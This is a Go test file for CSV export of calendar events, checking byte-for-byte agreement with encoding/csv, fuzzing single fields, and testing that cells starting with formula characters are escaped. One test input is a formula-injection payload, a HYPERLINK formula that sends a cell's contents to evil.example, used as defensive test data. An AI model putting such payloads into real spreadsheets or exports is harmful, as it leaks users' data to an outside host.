package models

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
	"time"
)

// csvLine is what encoding/csv's Writer (UseCRLF, as RFC 4180 has it)
// writes for record: what AppendCSVRecord and appendCSVField must write.
func csvLine(t testing.TB, record []string) string {
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.UseCRLF = true
	if err := w.Write(record); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	return buf.String()
}

var csvSeeds = []string{
	"", "plain", "a,b", `say "hi"`, "line\nbreak", "cr\rlf\r\n", " leading", "\tleading tab", "trailing ",
	`\.`, `\`, "\u00a0nbsp first", "\u3000ideographic space first", "회의록, \"정리\"", "=1+2", "\"", ",",
}

// TestCSVRecordIsEncodingCSV: an export's lines are byte for byte what
// encoding/csv writes for the same cells, the header included.
func TestCSVRecordIsEncodingCSV(t *testing.T) {
	var names []string
	for i := range EventFields {
		names = append(names, EventFields[i].Name)
	}
	if got, want := string(AppendCSVHeader(nil)), csvLine(t, names); got != want {
		t.Errorf("header %q, want %q", got, want)
	}
	at := time.Date(2026, 11, 22, 3, 4, 5, 123456000, time.UTC)
	for i, text := range csvSeeds {
		tag := text
		e := Event{ID: int64(i + 1), Kind: KindTask, Status: StatusPlanned, Title: text, Description: text,
			DueAt: &at, Priority: i % 4, AllDay: i%2 == 0, CreatedAt: at, UpdatedAt: at}
		if i%3 == 0 {
			e.ProjectTag = &tag
		}
		var cells []string
		for j := range EventFields {
			f := &EventFields[j]
			switch f.Type {
			case TypeText, TypeEnum:
				s, _ := f.Text(&e)
				cells = append(cells, s)
			case TypeTime:
				s := ""
				if t := f.Time(&e); t != nil {
					s = FormatTime(*t)
				}
				cells = append(cells, s)
			case TypeBool:
				cells = append(cells, strconv.FormatBool(f.Bool(&e)))
			default:
				cells = append(cells, strconv.FormatInt(f.Int(&e), 10))
			}
		}
		if got, want := string(AppendCSVRecord(nil, &e, CSVFormulasRaw)), csvLine(t, cells); got != want {
			t.Errorf("text %q:\n%q\nwant\n%q", text, got, want)
		}
	}
}

// FuzzCSVField: any cell is written as encoding/csv writes it.
func FuzzCSVField(f *testing.F) {
	for _, s := range csvSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := string(append(appendCSVField(nil, s), ",x\r\n"...))
		if want := csvLine(t, []string{s, "x"}); got != want {
			t.Errorf("%q: %q, want %q", s, got, want)
		}
	})
}

// TestCSVFormulasAreEscaped: a text cell that begins with =, +, -, @, a tab
// or a carriage return is written with a leading ', in every text column,
// and the line is still what encoding/csv writes for those cells; with
// CSVFormulasRaw every cell is as stored. Other text, and every time,
// number and boolean cell, is as it was.
func TestCSVFormulasAreEscaped(t *testing.T) {
	at := time.Date(2026, 11, 22, 3, 4, 5, 0, time.UTC)
	for _, text := range []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx", "=1+2",
		"a=b", " =x", "'quoted", "", "회의 = meeting",
	} {
		formula := strings.ContainsAny(text[:min(1, len(text))], "=+-@\t\r")
		if got := IsCSVFormula(text); got != formula {
			t.Errorf("IsCSVFormula(%q) = %v", text, got)
		}
		tag, ref, source := text, text, Source("import")
		e := Event{ID: 7, Kind: KindTask, Status: StatusPlanned, Title: text, Description: text, ProjectTag: &tag,
			Source: &source, SourceRef: &ref, DueAt: &at, Priority: 3, CreatedAt: at, UpdatedAt: at}
		for _, formulas := range []CSVFormulas{CSVFormulasEscaped, CSVFormulasRaw} {
			var cells []string
			escaped := 0
			for j := range EventFields {
				f := &EventFields[j]
				switch f.Type {
				case TypeText, TypeEnum:
					s, _ := f.Text(&e)
					if formulas == CSVFormulasEscaped && formula && s == text {
						s = "'" + s
						escaped++
					}
					cells = append(cells, s)
				case TypeTime:
					s := ""
					if t := f.Time(&e); t != nil {
						s = FormatTime(*t)
					}
					cells = append(cells, s)
				case TypeBool:
					cells = append(cells, strconv.FormatBool(f.Bool(&e)))
				default:
					cells = append(cells, strconv.FormatInt(f.Int(&e), 10))
				}
			}
			if formulas == CSVFormulasEscaped && formula && escaped != 4 {
				t.Fatalf("%q: %d text columns hold it, want title, description, project_tag and source_ref", text, escaped)
			}
			if got, want := string(AppendCSVRecord(nil, &e, formulas)), csvLine(t, cells); got != want {
				t.Errorf("%q (formulas %d):\n%q\nwant\n%q", text, formulas, got, want)
			}
		}
	}
}
